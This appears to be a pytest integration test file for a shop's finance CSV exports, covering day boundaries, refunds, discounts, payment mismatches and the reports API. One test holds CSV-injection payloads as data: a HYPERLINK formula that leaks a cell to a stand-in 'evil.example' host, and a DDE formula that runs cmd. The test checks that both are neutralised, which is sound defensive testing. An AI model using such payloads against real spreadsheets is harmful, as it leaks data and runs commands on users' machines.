"""Finance exports (CONTRACT §4 and §6, issue 7): one CSV per business day, ISO week and month,
with every payment and refund, totals per provider and currency, and the mismatches.

The movements are made through the API (order, signed webhook, operator refund) and then
moved to a quiet past date, so that each report holds exactly what the test put in it and the
day boundary can be placed to the second.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import requests

from kayisu.store.orders import created_keys, money_keys
from tests.integration.conftest import Api, aws
from tests.integration.shop import new_codes, notify, order, pay, run_schedule, stocked_product, wait_for, webhook_body
from tests.support import scan_items

SHANGHAI = ZoneInfo("Asia/Shanghai")
BOM = b"\xef\xbb\xbf"
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def shanghai(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=SHANGHAI)


def run_at(stack: dict[str, Any], name: str, local_time: str) -> dict[str, Any]:
    return run_schedule(stack, name, shanghai(local_time).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"))


def backdate(stack: dict[str, Any], placed: dict[str, Any], at: datetime) -> None:
    """Moves an order, and every payment and refund of it, to `at` (as if it all happened then)."""
    ddb = aws(stack, "dynamodb")
    table = stack["resources"]["OrdersTable"]
    stamp = at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f+0000")  # as PynamoDB stores it
    order_id = placed["order_id"]
    created_pk, created_sk = created_keys(order_id, at.astimezone(UTC))
    item = ddb.get_item(TableName=table, Key={"pk": {"S": f"ORDER#{order_id}"}, "sk": {"S": "ORDER"}}).get("Item")
    if item:  # money can arrive for an order that does not exist
        sets = {"created_at": stamp, "gsi1pk": created_pk, "gsi1sk": created_sk}
        sets.update({name: stamp for name in ("paid_at", "delivered_at", "refunded_at") if name in item})
        _set(ddb, table, f"ORDER#{order_id}", "ORDER", sets)
    movements = scan_items(
        ddb,
        TableName=table,
        FilterExpression="order_id = :o AND (#k = :p OR #k = :r)",
        ExpressionAttributeNames={"#k": "kind"},
        ExpressionAttributeValues={":o": {"S": order_id}, ":p": {"S": "payment"}, ":r": {"S": "refund"}},
    )
    for m in movements:
        reference = m.get("transaction_id", m.get("refund_id", {"S": ""}))["S"]
        index_pk, index_sk = money_keys(at.astimezone(UTC), reference)
        _set(ddb, table, m["pk"]["S"], m["sk"]["S"], {"at": stamp, "gsi1pk": index_pk, "gsi1sk": index_sk})


def _set(ddb: Any, table: str, pk: str, sk: str, values: dict[str, str]) -> None:
    names = {f"#a{i}": k for i, k in enumerate(values)}
    ddb.update_item(
        TableName=table,
        Key={"pk": {"S": pk}, "sk": {"S": sk}},
        UpdateExpression="SET " + ", ".join(f"#a{i} = :v{i}" for i in range(len(values))),
        ExpressionAttributeNames=names,
        ExpressionAttributeValues={f":v{i}": {"S": v} for i, v in enumerate(values.values())},
    )


def paid_order(stack: dict[str, Any], public: Api, sku: str, **pay_override: Any) -> dict[str, Any]:
    placed: dict[str, Any] = order(public, sku).json()
    assert pay(stack, placed, **pay_override).status_code == 200
    wait_for(public, placed)
    return placed


def download(finance: Api, report_id: str) -> bytes:
    got = finance.get(f"/v1/admin/reports/{report_id}")
    assert got.status_code == 200, got.text
    report = got.json()
    assert report["report_id"] == report_id
    fetched = requests.get(report["download_url"], timeout=30)
    assert fetched.status_code == 200
    return fetched.content


def sections(raw: bytes) -> dict[str, list[dict[str, str]]]:
    """The report's tables by section (movement, total, mismatch), each row keyed by its header."""
    assert raw.startswith(BOM), "Excel needs the BOM to read UTF-8"
    out: dict[str, list[dict[str, str]]] = {"movement": [], "total": [], "mismatch": []}
    header: list[str] = []
    for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
        if not row:
            continue
        if row[0] == "section":
            header = row
            continue
        out[row[0]].append(dict(zip(header, row, strict=True)))
    return out


def test_an_order_at_235959_and_one_at_000000_shanghai_land_in_different_days(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    stocked_product(operator, new_sku, new_codes(3), price=1990)
    late, early = paid_order(stack, public, new_sku), paid_order(stack, public, new_sku)
    backdate(stack, late, shanghai("2026-03-14T23:59:59"))
    backdate(stack, early, shanghai("2026-03-15T00:00:00"))

    run_at(stack, "DailyReport", "2026-03-15T00:10:00")  # covers 14 March
    run_at(stack, "DailyReport", "2026-03-16T00:10:00")  # covers 15 March
    on_14th = sections(download(finance, "daily-2026-03-14"))
    on_15th = sections(download(finance, "daily-2026-03-15"))
    assert [r["order_id"] for r in on_14th["movement"]] == [late["order_id"]]
    assert [r["order_id"] for r in on_15th["movement"]] == [early["order_id"]]
    row = on_14th["movement"][0]
    assert row["time"] == "2026-03-14 23:59:59"  # in the business time zone
    assert row["time_utc"] == "2026-03-14T15:59:59Z"
    assert (row["type"], row["sku"], row["quantity"], row["amount"], row["amount_decimal"]) == (
        "payment",
        new_sku,
        "1",
        "1990",
        "19.90",
    )
    assert (row["currency"], row["provider"], row["order_status"], row["outcome"]) == (
        "CNY",
        "sandbox",
        "delivered",
        "paid",
    )
    assert row["transaction_id"].startswith("txn_")
    assert row["refund_id"] == ""
    assert (row["subtotal"], row["discount_amount"], row["discounts"]) == ("1990", "0", "")
    for report in (on_14th, on_15th):
        assert [(t["provider"], t["payments"], t["payment_amount"], t["net_amount"]) for t in report["total"]] == [
            ("sandbox", "1", "1990", "1990"),
            ("all", "1", "1990", "1990"),
        ]
        assert report["mismatch"] == []

    # The function's own name runs what is due: on a Monday, the day and the ISO week before it.
    ran = run_at(stack, "ReportsFunction", "2026-03-16T00:20:00")
    assert sorted(r["report_id"] for r in ran["result"]["reports"]) == ["daily-2026-03-15", "weekly-2026-W11"]
    week = sections(download(finance, "weekly-2026-W11"))
    assert [r["order_id"] for r in week["movement"]] == [late["order_id"], early["order_id"]]
    run_at(stack, "MonthlyReport", "2026-04-01T00:30:00")
    month = sections(download(finance, "monthly-2026-03"))
    assert month["total"][-1]["payments"] == "2"


def test_each_movement_shows_its_orders_subtotal_and_discounts(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    stocked_product(operator, new_sku, new_codes(5), price=1000, max_per_order=5)
    tiers = [{"min_quantity": 5, "price": 800}]
    assert operator.put(f"/v1/admin/products/{new_sku}", {"price_tiers": tiers}).status_code == 200
    placed: dict[str, Any] = order(public, new_sku, 5).json()
    assert pay(stack, placed).status_code == 200
    wait_for(public, placed)
    assert operator.post(f"/v1/admin/orders/{placed['order_id']}/refund", {"reason": "test"}).status_code == 200
    backdate(stack, placed, shanghai("2026-05-20T12:00:00"))
    run_at(stack, "DailyReport", "2026-05-21T00:10:00")
    rows = {r["type"]: r for r in sections(download(finance, "daily-2026-05-20"))["movement"]}
    for kind in ("payment", "refund"):
        row = rows[kind]
        assert (row["amount"], row["subtotal"], row["discount_amount"]) == ("4000", "5000", "1000")
        assert row["discounts"] == "tier:min_quantity_5=1000"


def test_refunds_and_the_net_per_provider(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    stocked_product(operator, new_sku, new_codes(2), price=500)
    kept, refunded = paid_order(stack, public, new_sku), paid_order(stack, public, new_sku)
    answer = operator.post(f"/v1/admin/orders/{refunded['order_id']}/refund", {"reason": "customer changed mind"})
    assert answer.status_code == 200, answer.text
    for placed in (kept, refunded):
        backdate(stack, placed, shanghai("2026-02-20T12:00:00"))
    run_at(stack, "DailyReport", "2026-02-21T00:10:00")
    report = sections(download(finance, "daily-2026-02-20"))
    kinds = sorted((r["order_id"], r["type"], r["order_status"]) for r in report["movement"])
    assert kinds == sorted(
        [
            (kept["order_id"], "payment", "delivered"),
            (refunded["order_id"], "payment", "refunded"),
            (refunded["order_id"], "refund", "refunded"),
        ]
    )
    refund_row = next(r for r in report["movement"] if r["type"] == "refund")
    refunded_payment = next(
        r for r in report["movement"] if r["type"] == "payment" and r["order_id"] == refunded["order_id"]
    )
    assert refund_row["refund_id"]
    assert refund_row["transaction_id"] == refunded_payment["transaction_id"]  # the payment it paid back
    assert refund_row["outcome"] == "operator: customer changed mind"
    assert report["total"][0] == {
        "section": "total",
        "provider": "sandbox",
        "currency": "CNY",
        "payments": "2",
        "payment_amount": "1000",
        "refunds": "1",
        "refund_amount": "500",
        "net_amount": "500",
    }
    assert report["mismatch"] == []


def test_an_empty_day_has_headers_and_zero_totals(stack: dict[str, Any], finance: Api) -> None:
    run_at(stack, "DailyReport", "2025-01-03T00:10:00")
    raw = download(finance, "daily-2025-01-02")
    report = sections(raw)
    assert report["movement"] == []
    assert report["mismatch"] == []
    assert report["total"] == [
        {
            "section": "total",
            "provider": "all",
            "currency": "",
            "payments": "0",
            "payment_amount": "0",
            "refunds": "0",
            "refund_amount": "0",
            "net_amount": "0",
        }
    ]
    assert raw.decode("utf-8-sig").splitlines()[0].startswith("section,type,time,time_utc,order_id,sku")


def test_mismatches_unmatched_and_differing_payments_and_a_lost_payment_record(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    stocked_product(operator, new_sku, new_codes(3), price=800)
    day = shanghai("2026-01-10T09:30:00")
    # Money for an order this shop never made: answered 404, but recorded for finance.
    ghost = {"order_id": "ord_" + "e" * 32, "payment": {"payment_id": "sbx_ord_" + "e" * 32}, "amount": 800}
    body = webhook_body({**ghost, "currency": "CNY"}, transaction_id="txn_ghost_" + new_sku)
    for _ in range(2):  # a provider repeats; it is recorded once
        answer = notify(stack, body)
        assert (answer.status_code, answer.json()["code"]) == (404, "UNKNOWN_ORDER")
    # Paid the wrong amount: held for review, never delivered; then paid in full, still held.
    short: dict[str, Any] = order(public, new_sku).json()
    assert pay(stack, short, amount=700).status_code == 409
    assert pay(stack, short).json()["status"] == "held_for_review"
    # A paid order whose provider payment record has gone.
    lost = paid_order(stack, public, new_sku)
    for placed in (ghost, short, lost):
        backdate(stack, placed, day)
    ddb = aws(stack, "dynamodb")
    table = stack["resources"]["OrdersTable"]
    txn = ddb.get_item(TableName=table, Key={"pk": {"S": f"ORDER#{lost['order_id']}"}, "sk": {"S": "ORDER"}})["Item"]
    ddb.delete_item(TableName=table, Key={"pk": {"S": f"TXN#sandbox#{txn['transaction_id']['S']}"}, "sk": {"S": "TXN"}})

    run_at(stack, "DailyReport", "2026-01-11T00:10:00")
    report = sections(download(finance, "daily-2026-01-10"))
    found = {(m["kind"], m["order_id"]) for m in report["mismatch"]}
    assert found == {
        ("payment_without_order", ghost["order_id"]),
        ("amount_differs", short["order_id"]),
        ("payment_without_paid_order", short["order_id"]),
        ("paid_order_without_payment", lost["order_id"]),
    }
    differs = next(m for m in report["mismatch"] if m["kind"] == "amount_differs")
    assert (differs["expected_amount"], differs["actual_amount"]) == ("800", "700")
    assert differs["transaction_id"].startswith("txn_")
    # The money that did arrive is in the totals: the ghost's 800, the short 700 and the full 800.
    assert report["total"][-1]["payment_amount"] == "2300"


def test_provider_text_that_would_run_as_a_formula_is_neutralised_and_negative_amounts_stay_numbers(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    """CSV injection: a verified payment names an order `=HYPERLINK(...)` (and a transaction id
    that is a DDE formula); the finance sheet shows them as text. A day whose refund exceeds its
    payments has a negative net, which stays a number."""
    stocked_product(operator, new_sku, new_codes(1), price=1990)
    day = shanghai("2026-01-14T10:00:00")
    evil_order = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
    evil_txn = f"-2+3+cmd|' /C calc'!A0 {new_sku}"
    ghost = {"order_id": evil_order, "payment": {"payment_id": "sbx_ghost"}, "amount": 800}
    answer = notify(stack, webhook_body({**ghost, "currency": "CNY"}, transaction_id=evil_txn))
    assert (answer.status_code, answer.json()["code"]) == (404, "UNKNOWN_ORDER")
    backdate(stack, ghost, day)
    # Paid the day before, refunded on the day: the day's net is 800 - 1990 = -1190.
    refunded = paid_order(stack, public, new_sku)
    assert operator.post(f"/v1/admin/orders/{refunded['order_id']}/refund", {"reason": "test"}).status_code == 200
    backdate(stack, refunded, day)
    ddb = aws(stack, "dynamodb")
    table = stack["resources"]["OrdersTable"]
    payment = scan_items(
        ddb,
        TableName=table,
        FilterExpression="order_id = :o AND #k = :p",
        ExpressionAttributeNames={"#k": "kind"},
        ExpressionAttributeValues={":o": {"S": refunded["order_id"]}, ":p": {"S": "payment"}},
    )[0]
    before = shanghai("2026-01-13T10:00:00").astimezone(UTC)
    index_pk, index_sk = money_keys(before, payment["transaction_id"]["S"])
    _set(
        ddb,
        table,
        payment["pk"]["S"],
        payment["sk"]["S"],
        {"at": before.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"), "gsi1pk": index_pk, "gsi1sk": index_sk},
    )

    run_at(stack, "DailyReport", "2026-01-15T00:10:00")
    raw = download(finance, "daily-2026-01-14")
    report = sections(raw)
    ghost_row = next(r for r in report["movement"] if r["type"] == "payment")
    assert (ghost_row["order_id"], ghost_row["transaction_id"]) == ("'" + evil_order, "'" + evil_txn)
    unmatched = next(m for m in report["mismatch"] if m["kind"] == "payment_without_order")
    assert (unmatched["order_id"], unmatched["transaction_id"]) == ("'" + evil_order, "'" + evil_txn)
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
    runnable = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)]
    assert runnable == []
    assert report["total"][0]["net_amount"] == "-1190"  # a number, not the text '-1190
    assert (report["total"][0]["payment_amount"], report["total"][0]["refund_amount"]) == ("800", "1990")


def test_rerunning_a_period_rewrites_the_same_file(
    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
) -> None:
    stocked_product(operator, new_sku, new_codes(1))
    backdate(stack, paid_order(stack, public, new_sku), shanghai("2025-12-05T18:00:00"))
    run_at(stack, "DailyReport", "2025-12-06T00:10:00")
    first = download(finance, "daily-2025-12-05")
    run_at(stack, "DailyReport", "2025-12-06T08:00:00")
    assert download(finance, "daily-2025-12-05") == first
    listed = finance.get("/v1/admin/reports", params={"kind": "daily"}).json()["items"]
    assert [i["report_id"] for i in listed].count("daily-2025-12-05") == 1


def test_the_reports_api(stack: dict[str, Any], public: Api, operator: Api, finance: Api) -> None:
    for day in ("2024-06-01", "2024-06-02", "2024-06-03"):
        run_at(stack, "DailyReport", f"{day}T00:10:00")
    run_at(stack, "WeeklyReport", "2024-06-03T00:20:00")
    seen: list[str] = []
    cursor: str | None = None
    while True:
        params = {"kind": "daily", "limit": "2", **({"cursor": cursor} if cursor else {})}
        page = finance.get("/v1/admin/reports", params=params).json()
        seen += [i["report_id"] for i in page["items"]]
        assert all(i["kind"] == "daily" and i["size"] > 0 for i in page["items"])
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert seen == sorted(seen, reverse=True)
    assert len(seen) == len(set(seen))
    assert {"daily-2024-06-02", "daily-2024-05-31", "daily-2024-06-01"} <= set(seen)
    assert "weekly-2024-W22" not in seen
    every = [i["report_id"] for i in operator.get("/v1/admin/reports", params={"limit": "200"}).json()["items"]]
    assert "weekly-2024-W22" in every
    assert "daily-2024-06-01" in every

    bad = finance.get("/v1/admin/reports", params={"kind": "hourly"})
    assert (bad.status_code, bad.json()["code"]) == (422, "VALIDATION_ERROR")
    # Only a cursor of this list's own form (issue 9): "junk" is valid base64 of nothing we made.
    for cursor in ("junk", "bm90IG91cnM", "é"):
        bad = finance.get("/v1/admin/reports", params={"cursor": cursor})
        assert (bad.status_code, [e["field"] for e in bad.json()["errors"]]) == (422, ["cursor"]), cursor
    for missing in ("daily-2019-01-01", "daily-nonsense", "nothing"):
        gone = finance.get(f"/v1/admin/reports/{missing}")
        assert (gone.status_code, gone.json()["code"]) == (404, "UNKNOWN_REPORT")
    assert public.get("/v1/admin/reports").status_code == 401
    report = finance.get("/v1/admin/reports/weekly-2024-W22").json()
    assert (report["kind"], report["period"]) == ("weekly", "2024-W22")
    assert report["download_url"].startswith("http")
